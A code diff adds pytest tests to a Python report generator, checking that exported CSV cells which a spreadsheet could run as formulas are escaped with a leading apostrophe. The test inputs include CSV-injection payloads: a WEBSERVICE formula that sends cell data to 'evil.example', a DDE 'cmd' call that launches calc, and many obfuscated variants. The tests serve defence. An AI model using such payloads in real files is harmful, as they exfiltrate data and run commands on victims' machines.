@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from types import SimpleNamespace
 
 import jsonschema
 import pytest
@@ -13,7 +14,7 @@ from perfgen.build import job
 from perfgen.project.layout import DataFile
 from perfgen.prove.proof import ProofError
 from perfgen.render import data_csv, data_json, data_schema
-from perfgen.report import site
+from perfgen.report import open_data, site
 from perfgen.report.report import Edition
 from tests.conftest import REPOSITORY
 from tests.helpers import tiny
@@ -77,3 +78,42 @@ def test_a_changed_value_fails_the_proof(report, module):
     assert spoilt != content
     with pytest.raises(ProofError):
         module.prove(spoilt, report)
+
+
+def _cell_of(monkeypatch, text: str, *, is_value: bool = True) -> str:
+    """What stands in the CSV for a value."""
+    path = ("乙", 0)
+    monkeypatch.setattr(open_data, "printed", lambda _: {path: text})
+    monkeypatch.setattr(open_data, "is_value", lambda *_: is_value)
+    monkeypatch.setattr(open_data, "title", lambda *_: "题")
+    report = SimpleNamespace(year="2025", unit="甲")
+    content = data_csv.render(report)
+    assert data_csv.prove(content, report) == 1
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][4]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["-3.5", "+3", "-1,260.5", "=0起", "=100%", "＝100%", "≥80%", "=-5", "=5万元", "-5‰", "-2次/月", "= 100 %", "3-5",
+     "1/2", "规范"],
+)  # fmt: skip
+def test_one_number_or_one_target_stays_bare(monkeypatch, text):
+    assert _cell_of(monkeypatch, text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=WEBSERVICE("http://evil.example/?"&E6)', "=1+1", "-2+3", "=1-2", "-3~5", "=1*1", "=1&1", "=A1", "=5km", "=5k",
+        "=1(个)", "=1（个）", "=5“个”", "=5'个'", "+cmd|' /C calc'!A0", "+cmd|=1", "@SUM=1", "@1", "-", "--", "+个",
+        "＝HYPERLINK(1)", "＋1＋1", "－1－1", "＠SUM(1)", "﹦A1", " =1+1", "\u3000=A1", "\n=A1", "\r\n+A1", "\t=1", "\u200b=A1",
+        "\ufeff=A1", "=1\n2", "=1 2", "\xa0-A1", "=5!个", "=5|个", "=5^个", "=ｋ１", "=5ｋｍ",
+    ],
+)  # fmt: skip
+def test_everything_else_that_a_spreadsheet_may_run_is_guarded(monkeypatch, text):
+    assert _cell_of(monkeypatch, text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["=0起", "-3.5", "+1", "＠甲"])
+def test_a_name_or_prose_is_guarded_even_where_it_looks_like_a_number(monkeypatch, text):
+    assert _cell_of(monkeypatch, text, is_value=False) == f"'{text}"
